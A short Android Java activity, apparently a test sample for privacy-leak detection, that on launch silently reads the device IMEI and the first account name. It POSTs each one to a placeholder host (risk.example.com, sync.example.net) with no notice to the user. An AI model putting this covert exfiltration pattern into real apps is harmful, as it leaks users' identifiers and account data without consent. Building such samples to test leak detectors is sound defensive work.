package p;

import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            write(open("https://risk.example.com/"), phone.getImei());
            write(open("https://sync.example.net/"), AccountManager.get(this).getAccounts()[0].name);
        } catch (IOException error) {
            finish();
        }
    }

    private static HttpURLConnection open(String address) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection();
        connection.setDoOutput(true);
        return connection;
    }

    private static void write(HttpURLConnection connection, String text) throws IOException {
        OutputStream out = connection.getOutputStream();
        out.write(text.getBytes());
        out.close();
    }
}
